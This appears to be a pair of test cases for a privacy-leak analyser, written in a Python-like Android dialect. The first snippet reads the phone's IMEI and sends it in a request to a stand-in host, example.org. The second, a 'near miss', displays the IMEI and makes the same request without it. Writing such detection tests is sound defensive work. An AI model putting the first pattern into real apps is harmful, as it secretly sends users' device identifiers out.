permissions("READ_PHONE_STATE", "INTERNET")

@launcher
class Main(Activity):
    def onCreate(self, state):
        super().onCreate(state)
        phone = cast(TelephonyManager, self.getSystemService("phone"))
        self.tell(phone.getImei())
    def tell(self, text: String):
        address = StringBuilder().append("https://example.org/d?i=").append(text).toString()
        URL(address).openStream().close()

# near miss: shows the number; the address that it asks for does not depend on it
@launcher
class Main(Activity):
    def onCreate(self, state):
        super().onCreate(state)
        phone = cast(TelephonyManager, self.getSystemService("phone"))
        self.tell(phone.getImei())
    def tell(self, text: String):
        Toast.makeText(self, text, 1).show()
        URL("https://example.org/d?i=").openStream().close()
